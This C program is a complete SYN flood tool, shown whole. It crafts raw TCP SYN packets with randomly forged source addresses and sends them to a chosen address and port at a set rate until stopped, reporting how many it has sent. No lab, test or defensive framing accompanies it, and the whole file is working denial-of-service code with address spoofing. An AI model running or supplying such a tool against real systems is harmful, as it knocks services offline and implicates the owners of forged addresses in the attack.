/* SYNs from forged addresses to one address and port, a number a second, until a signal ends it.
 *
 *     flood ADDRESS PORT RATE
 *
 * Prints `sent N` every 100 ms. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define SECOND 1000000000ULL
#define LENGTH 40

static uint64_t random_state = 0x9e3779b97f4a7c15ULL;

/* xorshift64*: forged addresses need no better. */
static uint32_t any(void)
{
    random_state ^= random_state >> 12;
    random_state ^= random_state << 25;
    random_state ^= random_state >> 27;
    return (uint32_t)((random_state * 0x2545f4914f6cdd1dULL) >> 32);
}

static uint16_t checksum(const uint8_t *bytes, size_t length, uint32_t sum)
{
    for (size_t i = 0; i < length; i += 2) sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static uint64_t now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (uint64_t)time.tv_sec * SECOND + (uint64_t)time.tv_nsec;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: flood ADDRESS PORT RATE\n");
        return 2;
    }
    uint16_t port = (uint16_t)atoi(argv[2]);
    uint64_t rate = (uint64_t)atol(argv[3]), sent = 0, begin = now(), told = begin;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("socket");
        return 1;
    }
    uint8_t packet[LENGTH] = {0x45, 0, 0, LENGTH, 0, 0, 0, 0, 64, 6};
    memcpy(packet + 16, &to.sin_addr, 4);
    packet[22] = (uint8_t)(port >> 8);
    packet[23] = (uint8_t)port;
    packet[32] = 0x50;
    packet[33] = 2;
    packet[34] = packet[35] = 0xff;
    for (;;) {
        uint64_t time = now();
        uint64_t due = (time - begin) * rate / SECOND;
        if (sent >= due) {
            struct timespec pause = {.tv_nsec = 500000};
            nanosleep(&pause, NULL);
        }
        for (; sent < due; sent++) {
            uint32_t source = any(), sequence = any();
            memcpy(packet + 12, &source, 4);
            packet[12] = (uint8_t)(11 + packet[12] % 80); /* nothing special lives there */
            memcpy(packet + 24, &sequence, 4);
            packet[20] = (uint8_t)(sequence >> 8 | 4);
            packet[21] = (uint8_t)sequence;
            packet[36] = packet[37] = 0;
            uint32_t pseudo = 6 + 20;
            for (int i = 12; i < 20; i += 2) pseudo += (uint32_t)(packet[i] << 8 | packet[i + 1]);
            uint16_t sum = checksum(packet + 20, 20, pseudo);
            memcpy(packet + 36, &sum, 2);
            (void)!sendto(fd, packet, LENGTH, 0, (struct sockaddr *)&to, sizeof to);
        }
        if (time > told + SECOND / 10) {
            printf("sent %llu\n", (unsigned long long)sent);
            fflush(stdout);
            told = time;
        }
    }
}
